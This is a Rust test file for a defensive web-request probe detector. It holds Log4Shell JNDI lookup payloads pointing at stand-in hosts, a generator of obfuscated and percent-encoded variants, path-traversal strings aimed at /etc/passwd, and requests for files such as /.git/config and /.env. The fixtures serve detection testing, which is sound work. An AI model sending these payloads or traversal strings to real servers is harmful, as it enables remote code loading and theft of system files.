use super::*;
use proptest::prelude::*;
use rampart_core::{Body, Headers};

fn request(
    path: &str,
    query: Option<&str>,
    headers: &[(&str, &str)],
    body: Option<&[u8]>,
) -> Exchange {
    let mut h = Headers::new();
    for (n, v) in headers {
        h.push(n, *v);
    }
    Exchange {
        method: "GET".into(),
        path: path.into(),
        query: query.map(str::to_owned),
        request_headers: h,
        request_body: body.map(|b| Body::sample(Some("application/json".into()), b)),
        ..Exchange::default()
    }
}

fn kinds(ex: &Exchange) -> Vec<(ProbeKind, &'static str)> {
    ProbeInspector::new()
        .inspect(ex)
        .iter()
        .map(|m| (m.kind, m.location))
        .collect()
}

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36";

fn benign() -> Exchange {
    request(
        "/api/v1/users/8812/orders",
        Some("page=2&sort=created_at&fields=id%2Ctotal&price=%2410"),
        &[
            ("user-agent", CHROME),
            ("accept", "application/json, text/plain, */*"),
            ("accept-language", "en-US,en;q=0.9"),
            ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI4ODEyIn0.c2lnbmF0dXJl"),
            ("cookie", "session=abc123; theme=dark"),
            ("referer", "https://shop.example/orders?tab=open"),
        ],
        Some(br#"{"items":[{"sku":"A1","qty":2}],"note":"Hello ${name}, your total is ${amount:-0}","coupon":null}"#),
    )
}

#[test]
fn clean_request_has_no_probe() {
    assert!(kinds(&benign()).is_empty());
}

#[test]
fn each_location_is_reported() {
    let ex = request(
        "/.git/config",
        Some("file=../../etc/passwd&x=${jndi:ldap://q/a}"),
        &[
            ("user-agent", "${jndi:ldap://ua/a}"),
            ("x-api-version", "${${lower:j}ndi:rmi://h/a}"),
        ],
        Some(b"{\"a\":\"${jndi:dns://b/a}\"}"),
    );
    let found = ProbeInspector::new().inspect(&ex);
    let got: Vec<_> = found
        .iter()
        .map(|m| (m.kind, m.location, m.header.as_deref()))
        .collect();
    assert_eq!(
        got,
        vec![
            (ProbeKind::SensitiveFile, "path", None),
            (ProbeKind::Log4Shell, "query", None),
            (ProbeKind::PathTraversal, "query", None),
            (ProbeKind::Log4Shell, "header", Some("user-agent")),
            (ProbeKind::Log4Shell, "header", Some("x-api-version")),
            (ProbeKind::Log4Shell, "body", None),
        ]
    );
    assert_eq!(found[0].evidence, "/.git/config (git repository)");
    assert_eq!(found[4].evidence, "${jndi:rmi://h/a}");
    assert!(ProbeInspector::new().is_probe(&ex));
    assert!(!ProbeInspector::new().is_probe(&benign()));
}

#[test]
fn percent_encoded_sensitive_path_and_traversal_in_path() {
    assert_eq!(
        kinds(&request("/%2eenv", None, &[], None)),
        vec![(ProbeKind::SensitiveFile, "path")]
    );
    assert_eq!(
        kinds(&request(
            "/static/%2e%2e/%2e%2e/etc/passwd",
            None,
            &[],
            None
        )),
        vec![(ProbeKind::PathTraversal, "path")]
    );
    assert_eq!(
        kinds(&request("/%24%7Bjndi:ldap://x/a%7D", None, &[], None)),
        vec![(ProbeKind::Log4Shell, "path")]
    );
}

#[test]
fn evidence_is_escaped_and_bounded() {
    let payload = format!("${{jndi:ldap://\u{1b}[31m{}/a}}", "x".repeat(500));
    let ex = request("/", None, &[("user-agent", &payload)], None);
    let m = &ProbeInspector::new().inspect(&ex)[0];
    assert!(!m.evidence.contains('\u{1b}'));
    assert!(
        m.evidence.chars().count() <= EVIDENCE_MAX,
        "{}",
        m.evidence.chars().count()
    );
    assert!(m.evidence.starts_with("${jndi:ldap://\\u{1b}[31m"));
}

/// Benign requests that look like probes at a glance, and why they are not.
#[test]
fn benign_look_alikes() {
    let paths = [
        "/api/v1/env-settings", // `env` as a word, not the `.env` file
        "/docs/key-concepts",   // `key` as a word
        "/static/app.key.js",   // served as JavaScript: the last extension decides
        "/.well-known/security.txt",
        "/api/keys/rotate",
        "/assets/config.json", // front-end config; only `/config.json` at the root counts
        "/actuator/health",    // the harmless actuator endpoint
        "/git/commits",
        "/blog/log4j-jndi-ldap-explained",
        "/search/1..10",
    ];
    for p in paths {
        assert!(kinds(&request(p, None, &[], None)).is_empty(), "{p}");
    }
    let queries = [
        "range=1..10",
        "q=wait...",
        "%24filter=name%20eq%20%27x%27&%24top=10", // OData system options
        "template=${name}",
        "q=jndi:ldap", // talks about it, is no lookup
    ];
    for q in queries {
        assert!(kinds(&request("/", Some(q), &[], None)).is_empty(), "{q}");
    }
    let bodies: [&[u8]; 3] = [
        br#"{"subject":"Hi ${first_name}","body":"${greeting:-Hello} ${user.name}"}"#,
        br#"{"query":"query($id: ID!) { user(id: $id) { name } }","variables":{"id":"1"}}"#,
        br#"{"price":"$10","regex":"^\\$\\{[a-z]+\\}$"}"#,
    ];
    for b in bodies {
        assert!(
            kinds(&request("/", None, &[], Some(b))).is_empty(),
            "{}",
            String::from_utf8_lossy(b)
        );
    }
}

/// One character of the payload, written in one of Log4j's equivalent forms.
fn obfuscate_char(c: char, how: u8, upper: bool) -> String {
    let c = if upper { c.to_ascii_uppercase() } else { c };
    match how {
        0 => c.to_string(),
        1 => format!("${{lower:{c}}}"),
        2 => format!("${{upper:{c}}}"),
        3 => format!("${{::-{c}}}"),
        4 => format!("${{env:NOPE_{}:-{c}}}", u32::from(c)),
        5 => format!("${{date:'{c}'}}"),
        _ => format!("${{::-${{lower:{c}}}}}"),
    }
}

fn percent_all(s: &str) -> String {
    s.bytes().map(|b| format!("%{b:02X}")).collect()
}

fn encode(s: &str, how: u8) -> String {
    match how {
        0 => s.to_owned(),
        1 => s
            .replace('$', "%24")
            .replace('{', "%7B")
            .replace('}', "%7D"),
        2 => percent_all(s),
        3 => percent_all(&percent_all(s)),
        4 => s.replace('$', "\\u0024"),
        _ => s.replace('$', "%2524").replace('{', "%257B"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 512,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn obfuscated_log4shell_is_always_found(
        hows in proptest::collection::vec((0u8..7, any::<bool>()), 9),
        proto in 0usize..4,
        encoding in 0u8..6,
        place in 0u8..4,
        prefix in "[a-z0-9]{0,12}",
        suffix in "[a-z0-9]{0,12}",
    ) {
        let proto = ["ldap", "rmi", "dns", "ldaps"][proto];
        let word: Vec<char> = format!("jndi:{proto}").chars().collect();
        let mut inner = String::new();
        for (i, c) in word.iter().enumerate() {
            let (how, up) = hows[i % hows.len()];
            inner.push_str(&obfuscate_char(*c, how, up));
        }
        let payload = encode(&format!("${{{inner}://x.example/a}}"), encoding);
        let text = format!("{prefix}{payload}{suffix}");
        let ex = match place {
            0 => request(&format!("/api/{text}"), None, &[], None),
            1 => request("/", Some(&format!("q={text}")), &[], None),
            2 => request("/", None, &[("x-api-version", &text)], None),
            _ => request("/", None, &[], Some(format!("{{\"a\":\"{text}\"}}").as_bytes())),
        };
        let found = ProbeInspector::new().inspect(&ex);
        prop_assert!(found.iter().any(|m| m.kind == ProbeKind::Log4Shell), "{}", text);
    }

    #[test]
    fn never_panics_on_arbitrary_text(
        path in ".{0,200}",
        query in ".{0,200}",
        header in ".{0,200}",
        body in proptest::collection::vec(any::<u8>(), 0..300),
    ) {
        let ex = request(&path, Some(&query), &[("user-agent", &header)], Some(&body));
        let _ = ProbeInspector::new().inspect(&ex);
    }

    #[test]
    fn never_panics_on_lookup_soup(
        text in "[${}:\\-%\\\\ux0-9a-fA-FjndilapJ'./ı]{0,300}",
    ) {
        let ex = request(&format!("/{text}"), Some(&text), &[("x", &text)], Some(text.as_bytes()));
        for m in ProbeInspector::new().inspect(&ex) {
            prop_assert!(m.evidence.chars().count() <= EVIDENCE_MAX);
        }
    }
}

fn typical() -> Exchange {
    request(
        "/api/v1/users/8812/orders",
        Some("page=2&sort=created_at&limit=50"),
        &[
            ("user-agent", CHROME),
            ("accept", "application/json, text/plain, */*"),
            ("accept-language", "en-US,en;q=0.9"),
            (
                "authorization",
                "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI4ODEyIn0.c2lnbmF0dXJl",
            ),
            ("cookie", "session=abc123; theme=dark"),
            ("referer", "https://shop.example/orders?tab=open"),
        ],
        Some(br#"{"items":[{"sku":"A1","qty":2}],"note":"leave at the door","coupon":null}"#),
    )
}

fn time_per_call(ex: &Exchange) -> f64 {
    let inspector = ProbeInspector::new();
    let n = 500_000;
    let start = std::time::Instant::now();
    let mut hits = 0;
    for _ in 0..n {
        hits += inspector.inspect(std::hint::black_box(ex)).len();
    }
    assert_eq!(hits, 0);
    start.elapsed().as_nanos() as f64 / f64::from(n)
}

/// Cost per call on benign requests. Run with
/// `cargo test -p rampart-detect --release -- --ignored --nocapture probes_timing`.
#[test]
#[ignore]
fn probes_timing() {
    println!(
        "probes::inspect, typical benign request: {:.0} ns/call",
        time_per_call(&typical())
    );
    println!(
        "probes::inspect, benign with `%24` query and `${{name}}` body templates: {:.0} ns/call",
        time_per_call(&benign())
    );
}
